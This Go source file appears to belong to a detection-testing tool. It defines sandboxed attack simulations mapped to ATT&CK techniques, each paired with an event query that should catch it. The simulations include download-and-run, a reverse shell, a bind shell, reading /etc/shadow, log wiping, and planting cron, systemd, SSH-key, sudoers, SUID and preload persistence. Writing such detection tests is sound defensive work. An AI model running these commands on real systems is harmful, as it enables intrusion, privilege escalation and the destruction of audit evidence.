package main

// step is one harmless act of an attack. What it needs on the network is on
// loopback inside the sandbox; what it writes is gone with the sandbox.
type step struct {
	name      string
	technique string // ATT&CK id
	script    string // for bash; $URL, $PORT and $SELF are set
	seen      string // condition for the events that show it
	rules     bool   // a shipped rule must raise an alert
}

func steps() []step {
	return []step{
		{"download and run", "T1105",
			`curl -s -o /tmp/update "$URL/update" && chmod 755 /tmp/update && /tmp/update`,
			`event.action = 'process_start' and process.executable = '/tmp/update' or event.action = 'process_start' and process.command_line contains '/tmp/update'`, true},
		{"reverse shell shape", "T1059.004",
			`timeout 2 bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" </dev/null`,
			`event.action = 'net_connect' and destination.ip = '127.0.0.1' and process.name = 'bash'`, true},
		{"cron persistence", "T1053.003",
			`echo '* * * * * root /tmp/update' > /etc/cron.d/vedette-demo`,
			`event.action in ('file_create', 'file_write') and file.path = '/etc/cron.d/vedette-demo'`, true},
		{"memfd execution", "T1620",
			`"$SELF" __memfd`,
			`event.action = 'process_start' and process.memory_backed = 'true'`, true},
		{"credential file read", "T1003.008",
			`python3 -c 'open("/etc/shadow").read()'`,
			`event.action = 'file_open' and file.path = '/etc/shadow'`, true},
		{"log wipe", "T1070.002",
			`echo x > /var/log/auth.log; truncate -s 0 /var/log/auth.log; rm -f /var/log/auth.log`,
			`event.action in ('file_delete', 'file_write') and file.path = '/var/log/auth.log'`, true},
		{"SUID drop", "T1548.001",
			`cp /bin/true /tmp/.helper && chmod 4755 /tmp/.helper`,
			`event.action = 'file_chmod' and file.path = '/tmp/.helper'`, true},
		{"SSH key planted", "T1098.004",
			`mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA demo' >> /root/.ssh/authorized_keys`,
			`event.action in ('file_create', 'file_write') and file.path = '/root/.ssh/authorized_keys'`, true},
		{"service planted", "T1543.002",
			`mkdir -p /etc/systemd/system && printf '[Service]\nExecStart=/tmp/update\n' > /etc/systemd/system/vedette-demo.service`,
			`event.action in ('file_create', 'file_write') and file.path = '/etc/systemd/system/vedette-demo.service'`, true},
		{"preload planted", "T1574.006",
			`echo /tmp/none.so > /etc/ld.so.preload; rm -f /etc/ld.so.preload`,
			`event.action in ('file_create', 'file_write') and file.path = '/etc/ld.so.preload'`, true},
		{"sudoers changed", "T1548.003",
			`mkdir -p /etc/sudoers.d && echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/demo`,
			`event.action in ('file_create', 'file_write') and file.path = '/etc/sudoers.d/demo'`, true},
		{"encoded command", "T1027.010",
			`echo aWQ= | base64 -d | bash`,
			`event.action = 'process_start' and process.name = 'base64'`, true},
		{"bind shell shape", "T1571",
			`timeout 1 python3 -c 'import socket; s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(1)'`,
			`event.action = 'net_listen' and source.port = 4444`, false},
	}
}
